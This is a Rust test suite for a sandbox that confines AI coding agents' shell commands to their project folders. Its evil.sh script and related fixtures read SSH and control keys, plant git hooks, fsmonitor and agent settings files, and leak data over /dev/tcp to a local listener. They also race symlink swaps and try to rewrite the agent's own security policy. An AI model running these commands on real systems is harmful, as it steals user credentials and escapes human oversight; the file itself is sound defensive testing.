//! Attacks with classes allowed: an agent that may look, change its files and build gets nothing outside of its folders.

use crate::runs::{output, tried, worked};
use postern_tests::{Agent, Arena, postern};
use serde_json::json;
use std::fs;
use std::io::Write as _;
use std::net::TcpListener;
use std::process::Stdio;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

const SECRET: &str = "THE-PERSONS-KEY";

fn worker(arena: &Arena, name: &str) -> Agent {
    let folders = format!("folders={}", arena.outside().join(format!("project-{name}")).display());
    arena.agent(name, &[&folders, "look=allow", "files=allow", "build=allow"])
}

#[test]
fn code_of_the_project_reaches_nothing_but_the_project() {
    let Some(arena) = Arena::open() else { return };
    let mut agent = worker(&arena, "main");
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let reached = Arc::new(AtomicUsize::new(0));
    let count = Arc::clone(&reached);
    std::thread::spawn(move || listener.incoming().for_each(|_| _ = count.fetch_add(1, Ordering::SeqCst)));
    let home = arena.home();
    fs::create_dir_all(home.join(".ssh")).unwrap();
    fs::write(home.join(".ssh/id_rsa"), SECRET).unwrap();
    fs::write(home.join(".bashrc"), "# mine\n").unwrap();
    fs::write(home.join("letter"), SECRET).unwrap();
    let control = fs::read_to_string(arena.data().join("control.key")).unwrap();
    agent.sh("git init -q . && git config user.name a && git config user.email a@b && echo one > notes.txt");
    let (home, data, postern) = (home.display(), arena.data().display(), postern().display());
    let id = agent.id().to_owned();
    let evil = format!(
        "#!/bin/bash\n\
         echo evil ran\n\
         cat {home}/.ssh/id_rsa {home}/letter {data}/control.key {data}/agents/*/agent.key\n\
         ln -s {home} way; cat way/letter; cp {home}/letter copy; ln {home}/letter hard; cat hard\n\
         cat /proc/*/environ /proc/1/root{home}/letter\n\
         echo x >> {home}/.bashrc; echo x > {home}/mark; echo x > way/mark; echo x > /var/tmp/postern-mark-{port}\n\
         mkdir -p {home}/.config/autostart; echo x > {home}/.config/autostart/mark\n\
         echo evil > .git/hooks/pre-commit; git config core.fsmonitor ./evil.sh\n\
         mkdir .claude .vscode; echo '{{}}' > .claude/settings.json; echo '{{}}' > .mcp.json\n\
         exec 3<>/dev/tcp/127.0.0.1/{port} && echo leak >&3\n\
         python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}))'\n\
         POSTERN_DATA={data} {postern} agents set {id} security=full ask=off --yes\n\
         POSTERN_DATA={data} {postern} status\n\
         for c in {home}/.cache/postern/*; do mv $c/tmp $c/t; ln -s {home} $c/tmp; mv $c $c.old; rm -rf $c; ln -s {home} $c; done\n\
         echo x > /tmp/mark-tmp\n\
         kill -9 -1; kill -9 $PPID\n\
         (sleep 0.2; echo x > {home}/mark-later) & setsid sh -c 'echo x > {home}/mark-daemon' &\n\
         crontab -l; echo '* * * * * x' | crontab -; sudo -n id; su -c id; docker ps; systemd-run --user id\n\
         exit 0\n"
    );
    agent.write("evil.sh", &evil, 0o755);
    agent.write("Makefile", "all:\n\t./evil.sh\n", 0o644);
    agent.write("package.json", r#"{"name":"x","version":"1.0.0","scripts":{"test":"./evil.sh"}}"#, 0o644);
    agent.write("test_evil.py", "import os\nos.system('./evil.sh')\n", 0o644);
    for line in [
        "./evil.sh", "bash evil.sh", "make", "python3 test_evil.py",
        "python3 -c \"import os; os.system('./evil.sh')\"", "cat notes.txt && ./evil.sh",
        "for f in 1 2; do ./evil.sh; done", "eval \"$(cat evil.sh)\"", "FOO=1 sh -c './evil.sh; true'",
        "find . -name notes.txt -exec ./evil.sh \\;",
    ] {
        let end = tried(&mut agent, json!({ "shell": line }));
        let said = output(&end);
        assert!(!said.contains(SECRET) && !said.contains(control.trim()), "{line} read it: {said}");
    }
    let ran = worked(&mut agent, "./evil.sh");
    assert_eq!(ran.0["params"]["profile"], "project", "{}", ran.0);
    assert!(output(&ran.1).contains("evil ran"), "the attack itself ran: {}", ran.1);
    for path in ["mark", "mark-tmp", "mark-later", "mark-daemon", ".config/autostart/mark"] {
        assert!(!arena.home().join(path).exists(), "{path} was written");
    }
    assert_eq!(fs::read_to_string(arena.home().join(".bashrc")).unwrap(), "# mine\n");
    assert!(!std::path::Path::new(&format!("/var/tmp/postern-mark-{port}")).exists());
    for path in [".git/hooks/pre-commit", ".claude/settings.json", ".mcp.json"] {
        assert!(!agent.project().join(path).exists(), "{path} was planted");
    }
    let config = fs::read_to_string(agent.project().join(".git/config")).unwrap();
    assert!(!config.contains("fsmonitor"), "{config}");
    assert_eq!(reached.load(Ordering::SeqCst), 0, "something connected");
    assert_eq!(agent.policy(), json!({ "security": "allowlist", "ask": "on-miss" }), "nothing of it changed");
}

#[test]
fn a_folder_that_is_exchanged_while_its_run_is_prepared_opens_no_other() {
    let Some(arena) = Arena::open() else { return };
    let mut agent = worker(&arena, "main");
    let letters = letters();
    let letters = letters.path().display();
    agent.sh(&format!("mkdir bin other && ln -s {letters} other/run.sh"));
    agent.write("bin/run.sh", &format!("#!/bin/sh\necho ran; cat {letters}/letter\n"), 0o755);
    reads_no_letter(&arena, &mut agent, &["bin/run.sh"], ("bin", "other"));
}

#[test]
fn a_folder_that_is_exchanged_while_files_in_it_are_kept_back_opens_no_other() {
    let Some(arena) = Arena::open() else { return };
    let mut agent = worker(&arena, "main");
    arena.ok(&["rules", "deny", "--read", "**/.env", "--agent", agent.id()]);
    let letters = letters();
    let link = letters.path().display();
    agent.sh(&format!("mkdir sub && echo x > sub/.env && echo ran > sub/letter && ln -s {link} link"));
    reads_no_letter(&arena, &mut agent, &["cat", "sub/letter"], ("sub", "link"));
}

/// Returns a folder of the user's with a letter in it.
fn letters() -> tempfile::TempDir {
    // Not below the temporary folder, which a confined run has of its own.
    let letters = tempfile::tempdir_in(fs::canonicalize(env!("CARGO_TARGET_TMPDIR")).unwrap()).unwrap();
    fs::write(letters.path().join("letter"), SECRET).unwrap();
    letters
}

/// Requests a command again and again while two names are exchanged; none may ever print the letter.
fn reads_no_letter(arena: &Arena, agent: &mut Agent, command: &[&str], exchanged: (&str, &str)) {
    arena.ok(&["agents", "set", agent.id(), "--yes", "ask=off", "requests-per-second=10000"]);
    let mut ran = 0;
    for round in 0..200 {
        let raced = agent.race(json!({ "command": command }), exchanged, round % 25 * 600);
        let said = output(&agent.end(&raced["reply"]));
        assert!(!said.contains(SECRET), "round {round}: {said}");
        ran += u32::from(said.contains("ran"));
    }
    assert!(ran > 0, "it runs where the names were not exchanged just then");
}

#[test]
fn a_run_whose_pin_another_program_takes_away_goes_on_pinned_or_is_ended() {
    let Some(arena) = Arena::open() else { return };
    let mut agent = worker(&arena, "main");
    agent.sh("git init -q . && mkdir .idea");
    let wait = "#!/bin/bash\ntouch ready; until [ -e go ]; do :; done\n\
        until mapfile -t mounts </proc/self/mountinfo; [[ ${mounts[*]} == *'/.git/config '* ]]; do :; done\n\
        echo '[core] fsmonitor = evil' >> .git/config || echo refused; until [ -e end ]; do :; done\n";
    agent.write("wait.sh", wait, 0o755);
    let posted = agent.post(json!({ "shell": "./wait.sh" }));
    assert_eq!(agent.event(&["exec.started"], &posted)["params"]["profile"], "project");
    while !agent.project().join("ready").exists() {}
    // What an agent does in its own shell counts as another program.
    agent.sh("git config branch.main.remote origin; touch go; rm -r .idea");
    let end = agent.end(&posted);
    // In doubt it is ended at the first of them, as on a machine that is so busy that its processes do not stop in time.
    let places = [".git/config", ".idea"].map(|place| agent.project().join(place).display().to_string());
    assert_eq!(end["params"]["outcome"], "killed", "{end}");
    let said = end["params"]["message"].as_str().unwrap_or_default();
    assert!(places.iter().any(|place| said.contains(place)), "{end}");
    let config = fs::read_to_string(agent.project().join(".git/config")).unwrap();
    assert!(config.contains("origin") && !config.contains("evil"), "{config}");
}

#[test]
fn an_unconfined_git_obeys_nothing_that_a_run_under_way_would_leave() {
    let Some(arena) = Arena::open() else { return };
    let mut agent = worker(&arena, "main");
    let mark = arena.outside().join("mark-of-a-fetch");
    let plant = format!(
        "#!/bin/bash\nmkdir sub && cd sub && git init -q . && git config core.sshCommand 'touch {}; false' && \
         git config remote.origin.url ssh://example.invalid/x && touch ../ready\nuntil [ -e ../go ]; do :; done\n",
        mark.display()
    );
    agent.write("plant.sh", &plant, 0o755);
    arena.ok(&["rules", "allow", "git fetch *", "--agent", agent.id()]);
    let planting = agent.post(json!({ "shell": "./plant.sh" }));
    assert_eq!(agent.event(&["exec.started"], &planting)["params"]["profile"], "project");
    while !agent.project().join("ready").exists() {}
    let sub = agent.project().join("sub").display().to_string();
    let fetching = agent.post(json!({ "shell": "git fetch origin", "cwd": sub }));
    assert_ne!(fetching["state"], "asking", "the rule covers it: {fetching}");
    assert_eq!(own_shell(&arena, &agent, "git fetch origin"), "deny", "nobody keeps it apart there");
    agent.sh("touch go");
    let planted = agent.end(&planting);
    let config = format!("{sub}/.git/config");
    assert!(planted["params"]["message"].as_str().is_some_and(|said| said.contains(&config)), "{planted}");
    let fetched = agent.end(&fetching);
    assert!(!mark.exists(), "{fetched}");
    assert_eq!(own_shell(&arena, &agent, "git fetch origin"), "allow");
}

/// Returns the hook's answer on a line that the agent would run in its own shell.
fn own_shell(arena: &Arena, agent: &Agent, line: &str) -> String {
    let event = json!({
        "session_id": "s", "cwd": agent.project(), "hook_event_name": "PreToolUse", "tool_use_id": "t",
        "tool_name": "Bash", "tool_input": {"command": line}
    });
    let mut hook = arena.command(&["hook", "claude-code", "--agent", agent.id()]);
    let mut hook = hook.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    hook.stdin.take().unwrap().write_all(event.to_string().as_bytes()).unwrap();
    let told = hook.wait_with_output().unwrap().stdout;
    let told: serde_json::Value = serde_json::from_slice(&told).unwrap();
    told["hookSpecificOutput"]["permissionDecision"].as_str().unwrap_or_default().to_owned()
}

#[test]
fn what_classes_do_not_hold_is_asked_about() {
    let Some(arena) = Arena::open() else { return };
    let mut agent = worker(&arena, "main");
    let home = arena.home().display().to_string();
    agent.sh("git init -q . && echo one > notes.txt");
    agent.write("evil.sh", "#!/bin/sh\necho evil ran\n", 0o755);
    for line in [
        format!("cat {home}/.ssh/id_rsa"),
        "./evil.sh > /srv/postern-mark".to_owned(),
        "cp notes.txt ~/postern-mark".to_owned(),
        "git config core.fsmonitor ./evil.sh; echo x > .git/hooks/pre-commit".to_owned(),
        "echo x > .claude/settings.json".to_owned(),
        "rm -rf .".to_owned(),
        "git push origin main".to_owned(),
        "curl https://example.com".to_owned(),
        "npm install left-pad && ./evil.sh".to_owned(),
        "sudo ./evil.sh".to_owned(),
        "cat .env".to_owned(),
        "git reset --hard HEAD~1".to_owned(),
    ] {
        let end = tried(&mut agent, json!({ "shell": line }));
        assert_eq!(end["method"], "exec.denied", "{line} ran: {end}");
    }
    assert!(!std::path::Path::new("/srv/postern-mark").exists());
}

#[test]
fn work_in_its_folders_runs_without_a_question_and_confined() {
    let Some(arena) = Arena::open() else { return };
    let mut agent = worker(&arena, "main");
    agent.sh("git init -q . && git config user.name a && git config user.email a@b && echo one > notes.txt");
    agent.write("Makefile", "out.txt: notes.txt\n\ttr a-z A-Z < notes.txt > out.txt\n", 0o644);
    for line in [
        "make && cat out.txt | grep ONE", "git add . && git commit -qm one && git status --short",
        "mkdir -p src && echo 'print(1)' > src/a.py && python3 src/a.py",
        "sed -i s/one/two/ notes.txt && rm out.txt && make", "echo kept > /tmp/kept.txt",
        "cat /tmp/kept.txt | grep kept",
    ] {
        let (started, end) = worked(&mut agent, line);
        assert_eq!(started["params"]["profile"], "project", "{line}: {end}");
        assert_eq!(end["params"]["exitCode"], 0, "{line}: {end}");
    }
    let (started, _) = worked(&mut agent, "cat notes.txt");
    assert_eq!(started["params"]["profile"], "look", "reading needs less");
    assert!(!std::path::Path::new("/tmp/kept.txt").exists(), "its temporary folder is its own");
}

#[test]
fn what_fails_confined_says_how_to_ask_for_more() {
    let Some(arena) = Arena::open() else { return };
    let mut agent = worker(&arena, "main");
    agent.write("fetch.sh", "#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/9\n", 0o755);
    let (_, end) = worked(&mut agent, "./fetch.sh");
    let message = end["params"]["message"].as_str().unwrap_or_default();
    assert!(message.contains("had no network") && message.contains("--confine none"), "{end}");
    let refused = agent.post(json!({ "shell": "./fetch.sh", "confine": "none" }));
    assert!(refused["error"].as_str().is_some_and(|said| said.contains("needs a reason")), "{refused}");
    let watcher = arena.watch();
    let posted =
        agent.post(json!({ "shell": "./fetch.sh", "confine": "none", "reason": "it needs the network" }));
    assert_eq!(posted["state"], "asking", "{posted}");
    let question = watcher.question();
    assert!(question.to_string().contains("it asks to run with your rights"), "{question}");
    assert_eq!(question["confinement"][0]["text"], "Failed confined; asks for full access", "{question}");
    agent.call("system.kill", &json!({ "requestId": posted["requestId"] }));
    let look = agent.post(json!({ "shell": "echo x > written", "confine": "look" }));
    assert_eq!(look["state"], "asking", "look holds it from writing: {look}");
}

#[test]
fn no_program_that_obeys_the_project_runs_with_the_persons_rights() {
    let Some(arena) = Arena::open() else { return };
    let folders = format!("folders={}", arena.outside().join("project-main").display());
    let all = ["look", "files", "build", "network", "share", "install", "system", "secrets"];
    let all: Vec<String> = all.iter().map(|class| format!("{class}=allow")).collect();
    let settings: Vec<&str> =
        std::iter::once(folders.as_str()).chain(all.iter().map(String::as_str)).collect();
    let mut agent = arena.agent("main", &settings);
    let mark = arena.outside().join("mark");
    agent.sh("git init -q . && git config user.name a && git config user.email a@b && echo one > a && git add . && git commit -qm one");
    let evil = format!("#!/bin/sh\ntouch {}\n", mark.display());
    agent.write("evil.sh", &evil, 0o755);
    agent.sh("cp evil.sh .git/hooks/pre-push && git config core.sshCommand ./evil.sh && git remote add origin ssh://localhost/x && echo script-shell=./evil.sh > .npmrc");
    for line in [
        "git push origin main", "git fetch origin", "npm install -g ./x", "npm publish", "gh pr create",
        "docker compose up", "git ls-remote origin",
    ] {
        tried(&mut agent, json!({ "shell": line }));
        assert!(!mark.exists(), "{line} ran the agent's code with the person's rights");
    }
}

#[test]
fn a_class_that_is_denied_denies() {
    let Some(arena) = Arena::open() else { return };
    let folders = format!("folders={}", arena.outside().join("project-main").display());
    let mut agent = arena.agent("main", &[&folders, "share=deny", "secrets=deny"]);
    for line in ["git push origin main", "cat .env", "gh auth token"] {
        let end = agent.request(json!({ "shell": line }));
        assert_eq!(end["method"], "exec.denied", "{line}: {end}");
        assert_eq!(end["params"]["reason"], "policy", "{line}: {end}");
    }
    let missing = arena.run(&["agents", "set", agent.id(), "folders=none", "files=allow"]);
    assert!(missing.code != 0 && missing.stderr.contains("folders=~/Projects/site"), "{missing:?}");
}

#[test]
fn no_folder_that_a_request_chooses_becomes_the_agents() {
    let Some(arena) = Arena::open() else { return };
    let mut agent = worker(&arena, "main");
    let home = arena.home().to_owned();
    fs::create_dir_all(home.join(".ssh")).unwrap();
    fs::write(home.join(".ssh/id_rsa"), SECRET).unwrap();
    agent.write(
        "evil.sh", "#!/bin/sh\ncat ~/.ssh/id_rsa .ssh/id_rsa; echo x > mark; echo x > ~/mark\n", 0o755,
    );
    let (evil, data) = (agent.path("evil.sh"), arena.data().to_owned());
    let up = agent.project().join("..");
    for folder in [std::path::Path::new("/"), &home, &data, &up] {
        for line in [evil.clone(), "echo x > mark".to_owned(), "cat .ssh/id_rsa".to_owned()] {
            let end = tried(&mut agent, json!({ "shell": line, "cwd": folder }));
            assert!(!output(&end).contains(SECRET), "{line} in {}: {end}", folder.display());
            assert!(!folder.join("mark").exists() && !home.join("mark").exists(), "{line}: {end}");
        }
    }
}

#[test]
fn a_folder_of_the_agent_that_became_a_link_holds_nothing() {
    let Some(arena) = Arena::open_own() else { return };
    let mut agent = worker(&arena, "main");
    let (project, moved) = (agent.project().to_owned(), arena.outside().join("moved"));
    fs::create_dir_all(arena.home().join(".ssh")).unwrap();
    fs::write(arena.home().join(".ssh/id_rsa"), SECRET).unwrap();
    fs::rename(&project, &moved).unwrap();
    for target in [arena.home().to_owned(), arena.data().to_owned(), "/".into()] {
        std::os::unix::fs::symlink(&target, &project).unwrap();
        for line in
            ["cat .ssh/id_rsa control.key; ls -A", "echo x > mark", "python3 -c 'open(\"mark\", \"w\")'"]
        {
            let end = tried(&mut agent, json!({ "shell": line }));
            assert!(!output(&end).contains(SECRET), "{line} in {}: {end}", target.display());
            assert!(!target.join("mark").exists(), "{line} in {}: {end}", target.display());
        }
        fs::remove_file(&project).unwrap();
    }
    fs::rename(&moved, &project).unwrap();
}

#[test]
fn programs_that_are_planted_on_the_way_stand_for_no_others() {
    let Some(arena) = Arena::open() else { return };
    let mut agent = worker(&arena, "main");
    let mark = arena.outside().join("mark");
    let planted = format!("#!/bin/sh\necho planted\ntouch {}\n", mark.display());
    agent.sh("mkdir -p node_modules/.bin");
    for name in ["git", "node_modules/.bin/git", "node_modules/.bin/make", "cat"] {
        agent.write(name, &planted, 0o755);
    }
    agent.sh("/usr/bin/git init -q . && echo all: > Makefile");
    for line in ["git status", "cat Makefile", "make"] {
        let (_, end) = worked(&mut agent, line);
        assert!(!output(&end).contains("planted"), "{line}: {end}");
    }
    for line in ["PATH=$PWD/node_modules/.bin:$PATH git status", "PATH=.:$PATH cat Makefile", "./git status"]
    {
        tried(&mut agent, json!({ "shell": line }));
    }
    assert!(!mark.exists(), "a planted program ran with the person's rights");
}

#[test]
fn any_number_of_places_that_a_run_plants_is_set_aside_soon_and_told_in_short() {
    let Some(arena) = Arena::open() else { return };
    let mut agent = worker(&arena, "main");
    let plants = "#!/bin/bash\nd=$(printf 'd%.0s' {1..200}); mkdir -p $d/$d/$d; cd $d/$d/$d\n\
                  for at in {1..20000}; do : > $at.code-workspace; done\n";
    agent.write("plant.sh", plants, 0o755);
    let (_, end) = worked(&mut agent, "./plant.sh");
    let message = end["params"]["message"].as_str().unwrap_or_default();
    assert!(message.ends_with(" and 19990 more.") && message.len() < 16 << 10, "{message}");
    let deep = agent.project().join(vec!["d".repeat(200); 3].join("/"));
    let left = fs::read_dir(deep).unwrap().flatten();
    let left = left.filter(|left| left.path().extension().is_some_and(|end| end == "code-workspace"));
    assert_eq!(left.count(), 0);
}
